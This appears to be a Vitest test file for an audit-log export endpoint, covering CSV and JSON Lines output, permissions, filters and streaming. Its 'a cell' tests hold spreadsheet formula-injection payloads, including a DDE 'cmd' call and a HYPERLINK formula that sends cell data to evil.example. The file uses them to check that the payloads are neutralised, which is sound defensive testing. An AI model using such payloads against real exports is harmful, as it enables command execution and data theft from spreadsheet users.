import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { csvCell } from '../../api/audit/export-format.ts';
import {
  type Caller,
  good,
  type Partner,
  startTestService,
  type TestService,
} from '../helpers/service.ts';
import { configure, path } from './support.ts';

let service: TestService;
let partner: Partner;
let admin: Caller;
beforeAll(async () => {
  service = await startTestService();
});
afterAll(() => service.stop());
beforeEach(async () => {
  partner = await service.addPartner();
  admin = partner.as('partner_admin');
});

const list = '/api/integrations/syncro/audit';
const file = '/api/audit/export';
const columns =
  'position,created_at,integration_key,action,actor_id,actor_name,changed_fields,details,' +
  'request_id,id,previous_hash,hash';

/** A strict reader of RFC 4180, so that quoting is judged by somebody else than its writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    if (!match) throw new Error(`Not CSV at ${at}: ${text.slice(at, at + 40)}`);
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const jsonLines = (text: string) =>
  text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line));

const writeEntries = async (count: number, to = partner.id) => {
  const { sql } = service.database;
  for (let at = 0; at < count; at += 1_000) {
    await sql`INSERT INTO integration_audit_logs (partner_id, integration_key, action, details)
      SELECT ${to}, 'syncro', 'entry-' || n, jsonb_build_object('filler', repeat('x', 500))
      FROM generate_series(${at + 1}::int, ${Math.min(at + 1_000, count)}::int) n`;
  }
};

describe('a cell', () => {
  const formulas = [
    '=1+1',
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    '+1',
    '-2+3+cmd|"/c calc"!A1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '＝1',
    '＋1',
    '－1',
    '＠a',
    '\tx',
    '\rx',
  ];
  it.each(formulas)('%j is text to a spreadsheet', (formula) => {
    const [[value] = []] = parseCsv(`${csvCell(formula)}\r\n`);
    expect(value).toBe(`'${formula}`);
  });

  it.each(['acme', '', 'a=b', 'Zoë "Z" Ångström', 'a,b', 'a\r\nb', '"', '{"a":"=1"}', '😀'])(
    '%j reads back as it is',
    (value) => {
      expect(parseCsv(`${csvCell(value)},x\r\n`)).toEqual([[value, 'x']]);
    },
  );
});

describe('GET /api/audit/export', () => {
  it('gives every entry of the partner as CSV, oldest first, also of removed integrations', async () => {
    const other = await service.addPartner();
    await configure(other.as('partner_admin'), 'syncro', { ...good.syncro, subdomain: 'foreign' });
    const headers = { 'x-request-id': 'request-1' };
    await admin.call('POST', path('syncro', 'configure'), { settings: good.syncro }, headers);
    await configure(admin, 'msp360', good.msp360);
    await admin.call('DELETE', path('syncro'));
    const answer = await admin.call('GET', file);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="integration-audit-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const [head, ...rows] = parseCsv(answer.body);
    expect(head?.join()).toBe(columns);
    expect(rows.map((row) => row.slice(2, 4).join())).toEqual([
      'syncro,configured',
      'msp360,configured',
      'syncro,removed',
    ]);
    expect(rows[0]?.slice(4, 7)).toEqual([admin.userId, 'Mara Voss', 'subdomain api_token']);
    expect(rows[0]?.[8]).toBe('request-1');
    expect(rows.map((row) => row[10])).toEqual(['0'.repeat(64), rows[0]?.[11], rows[1]?.[11]]);
    expect(answer.body).not.toMatch(/foreign|acme-demo-token/);
  });

  it('makes names and values harmless to a spreadsheet', async () => {
    await service.database.sql`INSERT INTO integration_audit_logs
      (partner_id, integration_key, action, actor_id, actor_name, request_id)
      VALUES (${partner.id}, '=1+1', '@SUM(1)', ${admin.userId}, '-2+3', ${'\t=1,"x"'})`;
    const [, row] = parseCsv((await admin.call('GET', file)).body);
    expect(row).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(1)", "'-2+3", '\'\t=1,"x"']));
  });

  it('gives JSON Lines, one object a line, whatever the values hold', async () => {
    await service.database.sql`INSERT INTO integration_audit_logs
      (partner_id, integration_key, action, details)
      VALUES (${partner.id}, 'syncro', 'imported', ${service.database.sql.json({ text: 'a\nb\u2028c' })})`;
    await configure(admin, 'syncro', good.syncro);
    const answer = await admin.call('GET', `${file}?format=jsonl`);
    expect(answer.headers.get('content-type')).toBe('application/jsonl');
    const entries = jsonLines(answer.body);
    expect(entries).toMatchObject([
      { position: 1, action: 'imported', actor: null, details: { text: 'a\nb\u2028c' } },
      { position: 2, action: 'configured', actor: { id: admin.userId, name: 'Mara Voss' } },
    ]);
    expect(entries[1].previous_hash).toBe(entries[0].hash);
  });

  it('is an entry itself, with who and what, in no list of an integration', async () => {
    await admin.call('GET', `${file}?integration=syncro`, undefined, { 'x-request-id': 'first' });
    const [entry] = jsonLines((await admin.call('GET', `${file}?format=jsonl`)).body);
    expect(entry).toMatchObject({
      integration_key: '*',
      action: 'audit_exported',
      actor: { id: admin.userId },
      request_id: 'first',
      details: { format: 'csv', integration: 'syncro' },
    });
    expect((await admin.call('GET', path('syncro', 'audit'))).body.entries).toEqual([]);
    expect((await admin.call('GET', '/api/audit/verify')).body).toMatchObject({
      ok: true,
      entries: 2,
    });
  });

  it('gives nothing when it cannot be noted, nor to a partner that is not known', async () => {
    const { sql } = service.database;
    await configure(admin, 'syncro', good.syncro);
    await sql`ALTER TABLE integration_audit_logs ADD CONSTRAINT refuse CHECK (false) NOT VALID`;
    const refused = await admin.call('GET', file);
    await sql`ALTER TABLE integration_audit_logs DROP CONSTRAINT refuse`;
    expect(refused.body).toMatchObject({ status: 500, code: 'internal' });
  });

  it('is for partner admins, and a refused one is no export', async () => {
    const user = partner.as('partner_user');
    const refused = await user.call('GET', file);
    expect(refused.body).toMatchObject({ status: 403, missing_permission: 'audit:export' });
    const told = await Promise.all([user, admin].map((one) => one.call('GET', list)));
    expect(told.map(({ body }) => body.may_export)).toEqual([false, true]);
    const entries = jsonLines((await admin.call('GET', `${file}?format=jsonl`)).body);
    expect(entries.filter(({ action }) => action === 'audit_exported')).toEqual([]);
  });

  it('keeps to an integration, a time, a person and an action', async () => {
    await service.database.sql`INSERT INTO integration_audit_logs
      (partner_id, integration_key, action, created_at)
      SELECT ${partner.id}, CASE n % 2 WHEN 0 THEN 'syncro' ELSE 'msp360' END, 'entry-' || n,
        '2026-01-01'::timestamptz + n * interval '1 hour' FROM generate_series(0, 9) n`;
    const actions = async (query: string) =>
      jsonLines((await admin.call('GET', `${file}?format=jsonl&${query}`)).body).map(
        ({ action }) => action,
      );
    expect(await actions('integration=syncro')).toEqual([0, 2, 4, 6, 8].map((n) => `entry-${n}`));
    expect(
      await actions(
        'since=2026-01-01T03:00:00Z&until=2026-01-01T06:00:00%2B00:00&integration=msp360',
      ),
    ).toEqual(['entry-3', 'entry-5']);
    expect(await actions('integration=none')).toEqual([]);
    const colleague = '5a110000-0000-4000-8000-000000000001';
    await service.database.sql`INSERT INTO integration_audit_logs
      (partner_id, integration_key, action, actor_id, created_at)
      SELECT ${partner.id}, 'syncro', done, ${colleague}, '2026-01-02'
      FROM unnest(ARRAY['enabled', 'disabled']) done`;
    await configure(admin, 'syncro', good.syncro);
    expect(await actions(`actor=${colleague}`)).toEqual(['enabled', 'disabled']);
    expect(await actions(`actor=${colleague}&action=disabled`)).toEqual(['disabled']);
    expect(await actions('action=configured&integration=syncro')).toEqual(['configured']);
    for (const query of [
      'actor=me',
      'action=done',
      'since=yesterday',
      'until=2026-13-01T00:00:00Z',
      'format=xml',
      'a=1',
    ]) {
      expect((await admin.call('GET', `${file}?${query}`)).status, query).toBe(422);
    }
  });
});

describe('the stream', () => {
  const open = async (format: string) => {
    const response = await service.fetch(
      new Request(`http://test.local${file}?format=${format}`, {
        headers: { authorization: `Bearer ${await admin.token()}` },
      }),
    );
    if (!response.body) throw new Error('No body.');
    return response.body.getReader();
  };

  it('reads no further than its reader, and ends short when the database fails', async () => {
    await writeEntries(1_600);
    const reader = await open('jsonl');
    expect(jsonLines(new TextDecoder().decode((await reader.read()).value))).toHaveLength(500);
    const { sql } = service.database;
    await sql`ALTER TABLE integration_audit_logs RENAME TO gone`;
    const rest = (async () => {
      for (;;) if ((await reader.read()).done) return 'ended';
    })();
    await expect(rest).rejects.toThrow('interrupted');
    await sql`ALTER TABLE gone RENAME TO integration_audit_logs`;
  });

  it('a reader that goes away holds nothing', async () => {
    await writeEntries(1_600);
    for (let round = 0; round < 30; round += 1) {
      const reader = await open('csv');
      await reader.read();
      await reader.cancel();
    }
    expect((await admin.call('GET', '/api/audit/verify')).body.ok).toBe(true);
  });
});
